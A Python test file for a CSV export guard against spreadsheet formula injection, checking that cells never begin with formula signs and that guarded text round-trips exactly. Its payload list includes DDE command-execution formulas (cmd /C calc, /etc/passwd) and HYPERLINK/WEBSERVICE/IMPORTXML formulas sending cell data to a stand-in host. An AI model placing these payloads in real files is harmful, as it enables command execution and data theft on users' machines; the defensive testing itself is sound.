"""CSV for spreadsheets: nothing is calculated, nothing is lost."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consultations.outcome.csvfile import guard, line, unguard

SIGNS = "=+-@＝＋－＠"
SEPARATORS = ";,\t|\n\r"
ODD = st.text(st.sampled_from(SIGNS + SEPARATORS + "\"' \u00a0aä1\\") | st.characters(codec="utf-8"))
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"gut{separator}{sign}1+1" for separator in SEPARATORS for sign in SIGNS),
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    'gut,"=1+1"',
    "'=1+1",
    "''=1+1",
    "gut;'=1+1",
    '=HYPERLINK("https://boese.example/?"&A1;"hier")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("https://boese.example/")',
    '=IMPORTXML(CONCAT("https://boese.example/", A1), "//a")',
    '=DDE("soffice";"/etc/passwd";"A1")',
]


@given(ODD)
def test_unguard_gives_back_every_text_exactly(text):
    assert unguard(guard(text)) == text


@given(ODD)
def test_no_guarded_text_begins_with_a_formula_wherever_it_is_cut(text):
    for part in re.split(f"[{SEPARATORS}]", guard(text)):
        assert not part.lstrip(' \u00a0"').startswith(tuple(SIGNS))


@given(st.lists(ODD, min_size=1, max_size=5))
def test_a_row_read_by_a_csv_reader_and_unguarded_holds_the_same_cells(cells):
    rows = list(csv.reader(io.StringIO(line(*cells), newline=""), delimiter=";", strict=True))

    assert [[unguard(cell) for cell in row] for row in rows] == [cells]


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_whichever_separator_a_person_chooses(text, separator):
    written = line("E2", text, "Ende")

    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.lstrip(' \u00a0"\t\r\n').startswith(tuple(SIGNS))


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("Das ist 1 - 1 = 0 + x@y.example.", "Das ist 1 - 1 = 0 + x@y.example."),
        ("=1", "'=1"),
        ("'=1", "''=1"),
        ("'s wird", "''s wird"),
        ("Ist's gut", "Ist's gut"),
        ("a;=1,-2|+3", "a;'=1,'-2|'+3"),
        ("a\n- b\n- c", "a\n'- b\n'- c"),
        ("\t=", "'\t'="),
        ("＝1", "'＝1"),
        ("", ""),
    ],
)
def test_the_guard_stands_only_where_a_cell_could_begin(text, guarded):
    assert guard(text) == guarded


def test_numbers_of_ours_stay_plain_and_quotes_are_doubled():
    assert line('sagt "ja"', -1, 0, None, "-1") == '"sagt ""ja""";"-1";"0";"";"\'-1"\r\n'
